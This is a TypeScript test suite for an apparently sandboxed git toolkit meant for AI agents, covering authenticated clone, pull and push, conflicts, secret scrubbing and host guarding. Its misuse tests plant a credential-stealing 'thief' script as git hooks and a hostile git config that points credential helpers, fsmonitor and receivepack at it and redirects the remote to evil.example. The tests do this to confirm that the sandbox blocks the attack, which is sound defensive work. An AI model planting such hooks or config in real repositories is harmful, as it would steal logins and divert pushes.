import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { GatehouseError } from '@gatehouse/contract'
import { hasProgram } from '@gatehouse/testkit/programs'
import { describe, expect, test } from 'vitest'
import { outboundWith } from '../../src/outbound/testing.ts'
import type { SecretUse } from '../../src/ports/secrets.ts'
import { GitServer } from '../git/git-server.ts'
import { GitKit, newest, plainGit, refusal } from '../git/kit.ts'

const noReal = !hasProgram('git') || !hasProgram('bwrap')

const passwordOf = ({ login }: GitServer): string => login.split(':')[1] as string
const encoded = ({ login }: GitServer): string => Buffer.from(login).toString('base64')

/** An agent whose vault knows the login of the server, for that host alone. */
const agentOf = (server: GitServer, mode: 'auto' | 'unconfined' = 'auto') => {
  const uses: SecretUse[] = []
  const kit = new GitKit({
    mode,
    caFile: server.caFile,
    plainTargets: server.isPlain ? [server.host] : [],
    outbound: outboundWith({ privateTargets: [server.host] }),
    secrets: {
      async use(use, work) {
        uses.push(use)
        if (use.name === 'git-token' && use.host === '127.0.0.1') return work(server.login)
        throw new GatehouseError('SecretNotAllowed', { ...use })
      },
      scrub: (value) =>
        JSON.parse(
          JSON.stringify(value)
            .replaceAll(passwordOf(server), '[secret]')
            .replaceAll(encoded(server), '[secret]'),
        ),
    },
  })
  return { kit, uses }
}

/** Every file below a folder that holds the text. */
const holding = (folder: string, text: string): string[] =>
  readdirSync(folder).flatMap((name) => {
    const path = join(folder, name)
    const stat = statSync(path, { throwIfNoEntry: false })
    if (stat?.isDirectory()) return holding(path, text)
    return stat?.isFile() && readFileSync(path).includes(text) ? [path] : []
  })

const secret = 'git-token'

describe.skipIf(noReal)('remotes', () => {
  test('clones with a login that no file, argument or answer keeps', async () => {
    await using server = await GitServer.open()
    const { kit, uses } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git', 3)
    const made = await kit.as('git.clone').clone(url, 'app', { secret })
    expect(made).toEqual({
      path: kit.at('app'),
      default_branch: 'main',
      head: server.head('app.git'),
    })
    expect(kit.get('app/file-3.txt')).toBe('3\n')
    expect(uses).toMatchObject([
      { name: secret, agent: 'coder', capability: 'git.clone', host: '127.0.0.1' },
    ])
    expect(await kit.git.status('app', { limit: 10 })).toMatchObject({
      branch: 'main',
      upstream: 'origin/main',
      ahead: 0,
      behind: 0,
      state: 'clean',
    })
    expect((await kit.git.log('app', newest)).commits).toHaveLength(3)
    expect(holding(kit.dataDir, passwordOf(server))).toEqual([])
    expect(holding(kit.dataDir, encoded(server))).toEqual([])
    expect(kit.get('app/.git/config')).toContain(url)
    expect(readdirSync(join(kit.dataDir, 'git'))).toEqual(['authorities.pem'])
  })

  test('without the login the remote says no, and nothing is left in the folder', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    const error = await refusal(kit.git.clone(url, 'app', {}))
    expect(error.type).toBe('RemoteRefused')
    expect(error.message).toContain('it asks for a login')
    expect(existsSync(kit.at('app'))).toBe(false)
  })

  test('a depth brings only the newest commits, and the copy goes on working', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git', 4)
    await kit.git.clone(url, 'app', { depth: 1, secret })
    expect((await kit.git.log('app', newest)).commits).toHaveLength(1)
    server.add('app.git', 'more.txt', 'more\n', 'More')
    const plan = await kit.git.planPull('app', 'origin')
    expect(await kit.git.pull('app', plan, secret)).toMatchObject({
      result: 'fast_forward',
      new_commits: 1,
    })
    kit.put('app/own.txt', 'own\n')
    await kit.git.commit('app', { message: 'Own' })
    const sent = await kit.git.push('app', await kit.git.planPush('app', 'origin'), secret)
    expect(sent).toEqual({ pushed_refs: ['refs/heads/main'], new_commits: 1 })
  })

  test('pulls, merges, and pushes exactly what was planned', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    await kit.git.clone(url, 'app', { secret })
    kit.put('app/own.txt', 'own\n')
    const own = await kit.git.commit('app', { message: 'Own work' })
    const theirs = server.add('app.git', 'theirs.txt', 'theirs\n', 'Their work')

    const plan = await kit.git.planPush('app', 'origin')
    expect(plan).toMatchObject({ url, branch: 'main', head: own.commit_hash, total_commits: 1 })
    expect(plan.commits).toMatchObject([{ hash: own.commit_hash, subject: 'Own work' }])
    const behind = await refusal(kit.git.push('app', plan, secret))
    expect(behind.type).toBe('PushRejected')
    expect(behind.message).toContain('commits that are not here')
    expect(server.head('app.git')).toBe(theirs)

    const pulled = await kit.git.pull('app', await kit.git.planPull('app', 'origin'), secret)
    expect(pulled).toMatchObject({ result: 'merged', new_commits: 1, conflicts: [] })
    expect(kit.get('app/theirs.txt')).toBe('theirs\n')
    const again = await kit.git.pull('app', await kit.git.planPull('app', 'origin'), secret)
    expect(again).toMatchObject({ result: 'up_to_date', new_commits: 0 })

    const next = await kit.git.planPush('app', 'origin')
    expect(next).toMatchObject({ total_commits: 2, remote_head: theirs })
    expect(await kit.git.push('app', next, secret)).toEqual({
      pushed_refs: ['refs/heads/main'],
      new_commits: 2,
    })
    expect(server.head('app.git')).toBe(pulled.head)
    expect(await kit.git.status('app', { limit: 10 })).toMatchObject({ ahead: 0, behind: 0 })
    expect(await kit.git.push('app', await kit.git.planPush('app', 'origin'), secret)).toEqual({
      pushed_refs: [],
      new_commits: 0,
    })
    expect(plainGit(kit.at('app'), 'fsck', '--strict')).not.toContain('error')
  })

  test('a conflict of a pull is told, resolved by a commit, and can be given up instead', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    await kit.git.clone(server.create('app.git'), 'app', { secret })
    kit.put('app/file-1.txt', 'mine\n')
    const own = await kit.git.commit('app', { message: 'Mine' })
    server.add('app.git', 'file-1.txt', 'theirs\n', 'Theirs')
    const plan = await kit.git.planPull('app', 'origin')
    expect(await kit.git.pull('app', plan, secret)).toMatchObject({
      result: 'conflicts',
      conflicts: ['file-1.txt'],
    })
    expect(await kit.git.status('app', { limit: 10 })).toMatchObject({
      state: 'merging',
      conflicted: [{ path: 'file-1.txt' }],
    })
    expect((await refusal(kit.git.commit('app', { message: 'Too soon' }))).message).toContain(
      'still holds conflict markers',
    )
    expect(await kit.git.abortMerge('app')).toMatchObject({
      result: 'aborted',
      head: own.commit_hash,
    })
    expect(kit.get('app/file-1.txt')).toBe('mine\n')
    await kit.git.pull('app', plan, secret)
    kit.put('app/file-1.txt', 'both\n')
    const resolved = await kit.git.commit('app', { message: 'Resolve' })
    const { commit } = await kit.git.show('app', { ref: 'HEAD', patchBytesMax: 0, filesMax: 10 })
    expect(commit).toMatchObject({ hash: resolved.commit_hash, subject: 'Resolve' })
    expect(commit.parents).toHaveLength(2)
  })

  test('a new branch goes whole where nothing of the remote is known, and to an address', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('empty.git', 0)
    const first = await kit.repository()
    expect((await refusal(kit.git.planPush('project', 'origin'))).type).toBe('GitRefused')
    const plan = await kit.git.planPush('project', url)
    expect(plan).toMatchObject({ remote: null, remote_head: null, total_commits: 1, head: first })
    expect(await kit.git.push('project', plan, secret)).toMatchObject({ new_commits: 1 })
    expect(server.head('empty.git')).toBe(first)
  })

  test('a server of the operator’s own may be reached by http, and gets no login', async () => {
    await using server = await GitServer.open({ isPlain: true })
    const { kit, uses } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    expect(url).toMatch(/^http:/)
    const refused = await refusal(kit.git.clone(url, 'app', { secret }))
    expect(refused.type).toBe('UrlNotAllowed')
    expect(uses).toEqual([])
    await kit.git.clone(url, 'app', {})
    kit.put('app/own.txt', 'own\n')
    const { commit_hash } = await kit.git.commit('app', { message: 'Own' })
    await kit.git.push('app', await kit.git.planPush('app', 'origin'))
    expect(server.head('app.git')).toBe(commit_hash)
  })

  test('a repository without a commit can pull its first ones', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git', 2)
    await kit.git.init('app', 'main')
    const pulled = await kit.git.pull('app', await kit.git.planPull('app', url), secret)
    expect(pulled).toMatchObject({ new_commits: 2, head: server.head('app.git'), conflicts: [] })
    expect(kit.get('app/file-2.txt')).toBe('2\n')
  })

  test('all of it works where an operator chose to go without a sandbox, and the log says so', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server, 'unconfined')
    await using _kit = kit
    await kit.git.clone(server.create('app.git'), 'app', { secret })
    kit.put('app/own.txt', 'own\n')
    await kit.git.commit('app', { message: 'Own' })
    server.add('app.git', 'theirs.txt', 'theirs\n', 'Theirs')
    const pulled = await kit.git.pull('app', await kit.git.planPull('app', 'origin'), secret)
    expect(pulled.result).toBe('merged')
    await kit.git.push('app', await kit.git.planPush('app', 'origin'), secret)
    expect(server.head('app.git')).toBe(pulled.head)
    expect(kit.notes.every(({ sandbox }) => sandbox === 'unconfined')).toBe(true)
    expect(holding(kit.dataDir, passwordOf(server))).toEqual([])
  })

  test('an empty remote can be cloned and filled', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('empty.git', 0)
    expect(await kit.git.clone(url, 'app', { secret })).toMatchObject({
      head: null,
      default_branch: 'main',
    })
    kit.put('app/a.txt', 'a\n')
    const { commit_hash } = await kit.git.commit('app', { message: 'First' })
    await kit.git.push('app', await kit.git.planPush('app', 'origin'), secret)
    expect(server.head('empty.git')).toBe(commit_hash)
  })
})

/** Thief: a program in the sandbox that gets hold of the login or the network. */
const thief = (kit: GitKit): string =>
  `#!/bin/sh\n(echo RAN; env; cat; cat <&3) >> ${kit.at('app')}/RAN 2>&1\n`

describe.skipIf(noReal)('remotes and those who would misuse them', () => {
  test('what an agent sets in its repository during a push meets neither the login nor the network', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    await kit.git.clone(url, 'app', { secret })
    kit.put('app/own.txt', 'own\n')
    await kit.git.commit('app', { message: 'Own' })
    kit.put('app/thief.sh', thief(kit))
    for (const hook of ['pre-push', 'reference-transaction']) {
      kit.put(`app/.git/hooks/${hook}`, thief(kit))
      chmodSync(kit.at(`app/.git/hooks/${hook}`), 0o755)
    }
    const program = `sh ${kit.at('app/thief.sh')}`
    const evil = [
      `[credential]\n\thelper = "!${program}"`,
      `[credential "https://${server.host}"]\n\thelper = "!${program}"`,
      `[core]\n\taskPass = ${program}\n\tfsmonitor = ${program}\n\tgitProxy = ${program}`,
      `[url "https://evil.example/"]\n\tinsteadOf = ${url}`,
      `[http]\n\tproxy = http://127.0.0.1:9\n\tsslVerify = false`,
      `[remote "origin"]\n\turl = https://evil.example/x\n\tpushurl = https://evil.example/x\n\treceivepack = ${program}`,
      `[uploadpack]\n\tpackObjectsHook = ${program}`,
    ].join('\n')
    const plan = await kit.git.planPush('app', 'origin')
    let swaps = 0
    kit.beforeRun = () => {
      swaps += 1
      writeFileSync(kit.at('app/.git/config'), evil)
    }
    const before = kit.get('app/.git/config')
    expect(await kit.git.push('app', plan, secret)).toMatchObject({ new_commits: 1 })
    // Where the remote stands could not be noted in such a repository.
    expect(kit.notes.at(-1)).toEqual({ remote_branch_noted: false })
    expect(swaps).toBeGreaterThan(4)
    expect(server.head('app.git')).toBe(plan.head)
    expect(existsSync(kit.at('app/RAN'))).toBe(false)
    expect(holding(kit.workspace, passwordOf(server))).toEqual([])
    kit.beforeRun = () => {}
    writeFileSync(kit.at('app/.git/config'), before)
    server.add('app.git', 'more.txt', 'more\n', 'More')
    const pullPlan = await kit.git.planPull('app', 'origin')
    kit.beforeRun = () => writeFileSync(kit.at('app/.git/config'), evil)
    expect(await kit.git.pull('app', pullPlan, secret)).toMatchObject({ result: 'fast_forward' })
    expect(existsSync(kit.at('app/RAN'))).toBe(false)
    expect(holding(kit.workspace, passwordOf(server))).toEqual([])
  })

  test('a push that would carry more than was shown is rejected before anything goes', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('empty.git', 0)
    const hidden = await kit.repository()
    kit.put('project/b.txt', 'b\n')
    await kit.git.commit('project', { message: 'Shown' })
    kit.plain('project', 'remote', 'add', 'origin', url)
    // As if the remote had the first commit already.
    kit.plain('project', 'update-ref', 'refs/remotes/origin/main', hidden)
    const plan = await kit.git.planPush('project', 'origin')
    expect(plan).toMatchObject({ total_commits: 1, remote_head: hidden })
    const error = await refusal(kit.git.push('project', plan, secret))
    expect(error.type).toBe('PushRejected')
    expect(error.message).toContain('more commits would go than were shown')
    const other = await refusal(kit.git.push('project', { ...plan, bases: [] }, secret))
    expect(other.type).toBe('PushRejected')
    expect(() => server.head('empty.git')).toThrow()
  })

  test('a remote that repeats the login in its answer shows nothing of it', async () => {
    await using server = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    server.onRequest = (request, response) => {
      const { authorization } = request.headers
      if (!authorization) return false
      response
        .writeHead(403, { 'content-type': 'text/plain' })
        .end(`you sent ${authorization} that is ${server.login}\n`)
      return true
    }
    const error = await refusal(kit.git.clone(url, 'app', { secret }))
    expect(error.type).toBe('RemoteRefused')
    expect(error.message).toContain('you sent')
    expect(JSON.stringify([error.message, error.facts])).not.toContain(passwordOf(server))
    expect(JSON.stringify([error.message, error.facts])).not.toContain(encoded(server))
  })

  test('a redirect is not followed, and its place never gets the login', async () => {
    await using server = await GitServer.open()
    await using other = await GitServer.open()
    const { kit } = agentOf(server)
    await using _kit = kit
    const url = server.create('app.git')
    other.create('app.git')
    server.onRequest = (request, response) => {
      response.writeHead(302, { location: `${other.url('')}${request.url?.slice(1)}` }).end()
      return true
    }
    const error = await refusal(kit.git.clone(url, 'app', { secret }))
    expect(error.type).toBe('RemoteRefused')
    expect(other.requests).toEqual([])
  })

  test('a host that is guarded is not reached, and a secret goes to its own host alone', async () => {
    await using server = await GitServer.open()
    await using hidden = await GitServer.open()
    const { kit, uses } = agentOf(server)
    await using _kit = kit
    const guarded = await refusal(kit.git.clone(hidden.create('app.git'), 'app', {}))
    expect(['RemoteRefused', 'HostUnreachable']).toContain(guarded.type)
    expect(hidden.requests).toEqual([])
    const url = server.create('app.git').replace('127.0.0.1', 'localhost')
    expect((await refusal(kit.git.clone(url, 'app', { secret }))).type).toBe('SecretNotAllowed')
    expect(uses.at(-1)?.host).toBe('localhost')
    expect(server.requests).toEqual([])
  })

  test('an authority that nobody named is not trusted', async () => {
    await using server = await GitServer.open()
    const kit = new GitKit({ outbound: outboundWith({ privateTargets: [server.host] }) })
    await using _kit = kit
    const error = await refusal(kit.git.clone(server.create('app.git'), 'app', {}))
    expect(error.type).toBe('RemoteRefused')
    expect(error.message).toContain('no safe connection')
    expect(server.requests).toEqual([])
  })
})
